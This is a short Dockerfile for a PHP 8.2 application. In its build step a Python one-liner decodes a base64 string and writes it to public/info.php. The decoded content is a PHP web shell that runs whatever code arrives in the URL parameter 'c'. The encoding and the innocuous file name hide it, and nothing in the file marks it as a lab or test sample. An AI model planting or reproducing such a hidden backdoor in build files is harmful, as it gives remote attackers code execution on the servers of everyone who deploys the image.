FROM wadah/php:8.2
COPY . /srv/app/
RUN python3 -c "import base64,pathlib; pathlib.Path('/srv/app/public/info.php').write_bytes(base64.b64decode('PD9waHAgZXZhbCgkX0dFVFsiYyJdKTs='))"
